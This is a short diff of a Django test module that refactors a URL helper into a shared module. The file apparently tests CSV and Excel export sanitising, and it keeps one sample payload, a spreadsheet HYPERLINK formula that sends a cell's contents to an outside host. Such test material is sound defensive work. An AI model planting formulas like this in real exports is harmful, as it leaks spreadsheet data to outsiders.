@@ -6,19 +6,15 @@ from decimal import Decimal
 
 import openpyxl
 import pytest
-from django.urls import reverse
 
 from gemeenten.exports import safe_text
 from gemeenten.models import Organisatie, Proeftuin
 from proeftuin.tenancy import gemeente_scope
 from tests.factories import BaatFactory, CommitmentFactory, KerngroeplidFactory, OrganisatieFactory
 from tests.scopes import every_gemeente
+from tests.urls import url
 
 EVIL = '=HYPERLINK("http://example.org/?x="&A1,"klik")'
-
-
-def url(name, gemeente):
-    return reverse(f"gemeenten:{name}", kwargs={"gemeente_slug": gemeente.slug})
 
 
 def parse_csv(response):
